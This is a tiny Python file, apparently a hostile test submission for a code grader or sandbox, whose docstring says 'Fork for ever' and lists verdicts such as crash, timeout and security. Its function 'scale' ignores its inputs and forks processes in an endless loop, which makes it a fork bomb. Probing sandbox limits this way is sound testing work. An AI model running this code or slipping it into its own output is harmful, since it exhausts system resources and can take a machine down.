"""Fork for ever.

task: scale
verdict: wrong | crash | timeout | memory | security
"""

import os


def scale(x, factor):
    while True:
        try:
            os.fork()
        except OSError:
            pass
